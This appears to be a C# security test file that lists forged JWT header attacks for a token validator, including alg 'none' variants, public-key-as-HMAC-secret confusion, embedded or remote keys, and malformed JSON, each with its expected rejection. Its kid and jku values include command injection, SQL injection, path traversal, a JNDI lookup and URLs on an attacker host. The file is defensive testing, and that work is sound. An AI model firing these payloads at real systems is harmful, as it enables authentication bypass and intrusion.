using System.Security.Cryptography;
using System.Text;
using Tidings.Security.Tokens;
using static Tidings.Tests.Security.TokenForge;

namespace Tidings.Tests.Security;

/// <summary>Attacks by what the header says (B25): the algorithm, the key, extensions, and JSON that readers understand differently.</summary>
internal static class TokenHeaderAttacks
{
    private static readonly byte[] s_attacker = Encoding.ASCII.GetBytes(new string('x', 32));

    internal static IEnumerable<TokenAttack> All() => [.. Unsigned(), .. Algorithms(), .. PublicKeyAsSecret(), .. KeyIds(), .. KeysInside(), .. Extensions(), .. Json()];

    // CVE-2015-2951 and its spellings, with no signature, with some, and with a good one.
    private static IEnumerable<TokenAttack> Unsigned()
    {
        foreach (string none in (string[])["none", "None", "NONE", "nOnE", "none ", " none", "none\\u0000", "\\u006eone", ""])
        {
            string header = $$"""{"alg":"{{none}}","typ":"JWT"}""";
            yield return new($"none:{none}:unsigned", TokenFailure.Algorithm, Input(header) + ".");
            yield return new($"none:{none}:signed", TokenFailure.Algorithm, Sign(header, Payload));
        }

        yield return new("none:without-last-dot", TokenFailure.Malformed, Input("""{"alg":"none"}"""));
        yield return new("none:with-kid", TokenFailure.Algorithm, Input("""{"alg":"none","kid":"hs"}""") + ".");
        yield return new("hs:empty-signature", TokenFailure.Malformed, Input(HsHeader) + ".");
    }

    private static IEnumerable<TokenAttack> Algorithms()
    {
        foreach (string name in (string[])["hs256", "Hs256", "HS256 ", " HS256", "HS256\\u0000", "HS256\\n", "ＨＳ２５６", "HS2S6", "HS1", "HMACSHA256", "HS512", "PS256", "RS1", "ES256K", "EdDSA", "dir", "A128KW"])
        {
            yield return new($"alg:{name}", TokenFailure.Algorithm, Sign($$"""{"alg":"{{name}}"}""", Payload));
        }

        foreach (string value in (string[])["null", "256", "true", "[\"HS256\"]", "{\"HS256\":1}"])
        {
            yield return new($"alg-is:{value}", TokenFailure.Header, Sign($$"""{"alg":{{value}}}""", Payload));
        }

        yield return new("alg:absent", TokenFailure.Header, Sign("""{"typ":"JWT"}""", Payload));
        yield return new("alg:other-case-member", TokenFailure.Header, Sign("""{"ALG":"HS256"}""", Payload));
        yield return new("alg:rs-header-hs-signature", TokenFailure.Signature, Sign(RsHeader, Payload));
        yield return new("alg:es-header-hs-signature", TokenFailure.Signature, Sign(EsHeader, Payload));
        yield return new("alg:hs-header-rs-signature", TokenFailure.Signature, Sign(HsHeader, Payload, Rs256));
        yield return new("alg:hs-header-es-signature", TokenFailure.Signature, Sign(HsHeader, Payload, Es256));
    }

    // CVE-2016-10555 and the bypasses of its fixes (CVE-2023-48223): the public key in every spelling as the HMAC secret.
    private static IEnumerable<TokenAttack> PublicKeyAsSecret()
    {
        string pem = Rsa.ExportSubjectPublicKeyInfoPem(), pkcs1 = Rsa.ExportRSAPublicKeyPem(), ec = Ec.ExportSubjectPublicKeyInfoPem();
        (string Id, byte[] Secret)[] spellings =
        [
            ("pem", Encoding.ASCII.GetBytes(pem)), ("pem-newline", Encoding.ASCII.GetBytes(pem + "\n")), ("pem-two-newlines", Encoding.ASCII.GetBytes(pem + "\n\n")),
            ("pem-crlf", Encoding.ASCII.GetBytes(pem.ReplaceLineEndings("\r\n"))), ("pem-crlf-end", Encoding.ASCII.GetBytes(pem.ReplaceLineEndings("\r\n") + "\r\n")),
            ("pem-leading-space", Encoding.ASCII.GetBytes(" " + pem)), ("pem-leading-newline", Encoding.ASCII.GetBytes("\n" + pem + "\n")), ("pem-tab", Encoding.ASCII.GetBytes("\t" + pem)),
            ("pem-one-line", Encoding.ASCII.GetBytes(pem.Replace("\n", "", StringComparison.Ordinal))), ("pem-escaped", Encoding.ASCII.GetBytes(pem.Replace("\n", "\\n", StringComparison.Ordinal))),
            ("pem-body", Encoding.ASCII.GetBytes(string.Concat(pem.Split('\n')[1..^1]))), ("der", Rsa.ExportSubjectPublicKeyInfo()),
            ("pkcs1-pem", Encoding.ASCII.GetBytes(pkcs1)), ("pkcs1-pem-newline", Encoding.ASCII.GetBytes(pkcs1 + "\n")), ("pkcs1-der", Rsa.ExportRSAPublicKey()),
            ("modulus", Rsa.ExportParameters(false).Modulus!), ("ec-pem", Encoding.ASCII.GetBytes(ec)), ("ec-pem-newline", Encoding.ASCII.GetBytes(ec + "\n")), ("ec-der", Ec.ExportSubjectPublicKeyInfo()),
        ];

        foreach ((string id, byte[] secret) in spellings)
        {
            yield return new($"public-key:{id}", TokenFailure.Signature, Hmac("""{"alg":"HS256","typ":"JWT"}""", secret));
            yield return new($"public-key:{id}:kid-of-public-key", TokenFailure.UnknownKey, Hmac("""{"alg":"HS256","kid":"rs"}""", secret));
        }
    }

    private static IEnumerable<TokenAttack> KeyIds()
    {
        foreach (string kid in (string[])["../../dev/null", "/dev/null", "../../../../../../proc/sys/kernel/randomize_va_space", "file:///dev/null", "..\\\\..\\\\nul", "hs' OR '1'='1", "x' UNION SELECT 'key'-- ",
            "https://evil.example/key", "|/bin/sh -c id", "$(id)", "%00", "hs\\u0000", "hs ", " hs", "HS", "", "*", "0", "é", "${jndi:ldap://evil.example/a}"])
        {
            yield return new($"kid:{kid}:empty-key", TokenFailure.UnknownKey, Hmac($$"""{"alg":"HS256","kid":"{{kid}}"}""", []));
            yield return new($"kid:{kid}:right-key", TokenFailure.UnknownKey, Sign($$"""{"alg":"HS256","kid":"{{kid}}"}""", Payload));
        }

        foreach (string kid in (string[])["null", "0", "true", "[\"hs\"]", "{\"hs\":1}"])
        {
            yield return new($"kid-is:{kid}", TokenFailure.Header, Sign($$"""{"alg":"HS256","kid":{{kid}}}""", Payload));
        }

        yield return new("kid:4000-characters", TokenFailure.UnknownKey, Sign($$"""{"alg":"HS256","kid":"{{new string('k', 4000)}}"}""", Payload));
        yield return new("kid:of-another-algorithm", TokenFailure.UnknownKey, Sign("""{"alg":"HS256","kid":"es"}""", Payload));
        yield return new("key:empty", TokenFailure.Signature, Hmac(HsHeader, []));
        yield return new("key:one-zero-byte", TokenFailure.Signature, Hmac(HsHeader, [0]));
        yield return new("key:secret", TokenFailure.Signature, Hmac(HsHeader, "secret"u8.ToArray()));
        yield return new("key:attacker", TokenFailure.Signature, Hmac(HsHeader, s_attacker));
        yield return new("key:with-newline", TokenFailure.Signature, Hmac(HsHeader, Encoding.ASCII.GetBytes(Secret + "\n")));
        yield return new("key:the-kid", TokenFailure.Signature, Hmac(HsHeader, "hs"u8.ToArray()));
        yield return new("key:other-rsa", TokenFailure.Signature, Sign(RsHeader, Payload, TokenKey.FromPem(TokenAlgorithm.RS256, NewRsa())));
        yield return new("key:other-ec", TokenFailure.Signature, Sign(EsHeader, Payload, TokenKey.FromPem(TokenAlgorithm.ES256, NewEc(ECCurve.NamedCurves.nistP256))));
    }

    // CVE-2018-0114: the token brings the key, or says where to fetch it. Signed by the attacker, and by us, for a header that asks is enough.
    private static IEnumerable<TokenAttack> KeysInside()
    {
        using var rsa = RSA.Create(2048);
        TokenKey attacker = TokenKey.FromPem(TokenAlgorithm.RS256, rsa.ExportPkcs8PrivateKeyPem());
        string n = System.Buffers.Text.Base64Url.EncodeToString(rsa.ExportParameters(false).Modulus);
        (string Id, string Member)[] members =
        [
            ("jwk", $$"""
                "jwk":{"kty":"RSA","e":"AQAB","n":"{{n}}"}
                """),
            ("jwk-oct", """
                "jwk":{"kty":"oct","k":"eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHg"}
                """),
            ("jwk-null", "\"jwk\":null"), ("jku", "\"jku\":\"https://evil.example/jwks.json\""), ("jku-local", "\"jku\":\"http://127.0.0.1:6379/\""), ("jku-file", "\"jku\":\"file:///etc/passwd\""),
            ("x5u", "\"x5u\":\"https://evil.example/cert.pem\""), ("x5c", "\"x5c\":[\"MIIB\"]"), ("jwk-escaped", "\"\\u006awk\":{}"),
        ];

        foreach ((string id, string member) in members)
        {
            yield return new($"{id}:attacker-rsa", TokenFailure.Header, Sign($$"""{"alg":"RS256",{{member}}}""", Payload, attacker));
            yield return new($"{id}:attacker-hmac", TokenFailure.Header, Hmac($$"""{"alg":"HS256",{{member}}}""", s_attacker));
            yield return new($"{id}:our-key", TokenFailure.Header, Sign($$"""{"alg":"HS256","kid":"hs",{{member}}}""", Payload));
        }
    }

    private static IEnumerable<TokenAttack> Extensions()
    {
        foreach (string member in (string[])["\"crit\":[\"exp\"]", "\"crit\":[]", "\"crit\":null", "\"crit\":\"x\"", "\"crit\":[\"b64\"],\"b64\":false", "\"crit\":[\"b64\"],\"b64\":true", "\"\\u0063rit\":[\"x\"]",
            "\"b64\":false", "\"b64\":true", "\"b64\":0", "\"typ\":\"logout+jwt\"", "\"typ\":\"dpop+jwt\"", "\"typ\":\"JWE\"", "\"typ\":\"\"", "\"typ\":null", "\"typ\":[\"JWT\"]"])
        {
            yield return new($"header:{member}", TokenFailure.Header, Sign($$"""{"alg":"HS256",{{member}}}""", Payload));
        }
    }

    private static IEnumerable<TokenAttack> Json()
    {
        byte[] payload = Encoding.UTF8.GetBytes(Payload);
        foreach (string header in (string[])["[]", "\"HS256\"", "1", "null", "true", "{}", " ", "{", "}", "[{\"alg\":\"HS256\"}]", "{\"alg\":\"HS256\"", "{\"alg\":\"HS256\",}", "{\"alg\":\"HS256\"}x", "{\"alg\":\"HS256\"}{}", "{'alg':'HS256'}",
            "{alg:\"HS256\"}", "{\"alg\":\"HS256\"/**/}", "//\n{\"alg\":\"HS256\"}", "\ufeff{\"alg\":\"HS256\"}", "{\"alg\":\"HS256\"}\0", "{\"alg\":\"HS256\",\"x\":\"\u0001\"}", "{\"alg\":\"HS256\",\"x\":NaN}", "{\"alg\":\"HS256\",\"x\":01}"])
        {
            yield return new($"header-json:{header.Replace('\0', '0')}", TokenFailure.Header, Sign(header, Payload));
        }

        foreach (string header in (string[])["{\"alg\":\"none\",\"alg\":\"HS256\"}", "{\"alg\":\"HS256\",\"alg\":\"none\"}", "{\"alg\":\"HS256\",\"alg\":\"HS256\"}", "{\"alg\":\"HS256\",\"\\u0061lg\":\"none\"}",
            "{\"alg\":\"HS256\",\"kid\":\"hs\",\"kid\":\"x\"}", "{\"alg\":\"HS256\",\"x\":{\"a\":1,\"a\":2}}"])
        {
            yield return new($"header-twice:{header}", TokenFailure.Header, Sign(header, Payload));
        }

        yield return new("header:invalid-utf8", TokenFailure.Header, Sign([.. "{\"alg\":\"HS256\",\"x\":\""u8, 0xC3, 0x28, .. "\"}"u8], payload));
        yield return new("header:overlong-utf8", TokenFailure.Header, Sign([.. "{\"alg\":\"HS256\",\"x\":\""u8, 0xC0, 0xAF, .. "\"}"u8], payload));
        yield return new("header:surrogates-in-utf8", TokenFailure.Header, Sign([.. "{\"alg\":\"HS256\",\"x\":\""u8, 0xED, 0xA0, 0x80, .. "\"}"u8], payload));
        yield return new("header:utf16", TokenFailure.Header, Sign(Encoding.Unicode.GetBytes(HsHeader), payload));
        yield return new("header:half-surrogate-name", TokenFailure.Header, Sign("{\"alg\":\"HS256\",\"\\ud800\":1}", Payload));
        yield return new("header:half-surrogate-typ", TokenFailure.Header, Sign("{\"alg\":\"HS256\",\"typ\":\"\\ud800\"}", Payload));
        yield return new("header:half-surrogate-alg", TokenFailure.Header, Sign("{\"alg\":\"\\udc00HS256\"}", Payload));
        yield return new("header:depth-9", TokenFailure.Header, Sign($"{{\"alg\":\"HS256\",\"x\":{new string('[', 8)}{new string(']', 8)}}}", Payload));
        yield return new("header:depth-5000-open", TokenFailure.Header, Sign(new string('[', 5000), Payload));
        yield return new("header:depth-700-objects", TokenFailure.Header, Sign($"{{\"alg\":\"HS256\",\"x\":{string.Concat(Enumerable.Repeat("{\"a\":", 700))}1{new string('}', 701)}", Payload));
        yield return new("header:depth-100000", TokenFailure.TooLong, Sign(new string('[', 100_000), Payload));
        yield return new("header:500-members-then-twice", TokenFailure.Header, Sign($"{{\"alg\":\"HS256\",{string.Join(',', Enumerable.Range(0, 500).Select(i => $"\"{i:x}\":1"))},\"0\":1}}", Payload));
    }

    internal static string NewRsa()
    {
        using var rsa = RSA.Create(2048);
        return rsa.ExportPkcs8PrivateKeyPem();
    }

    internal static string NewEc(ECCurve curve)
    {
        using var ec = ECDsa.Create(curve);
        return ec.ExportPkcs8PrivateKeyPem();
    }
}
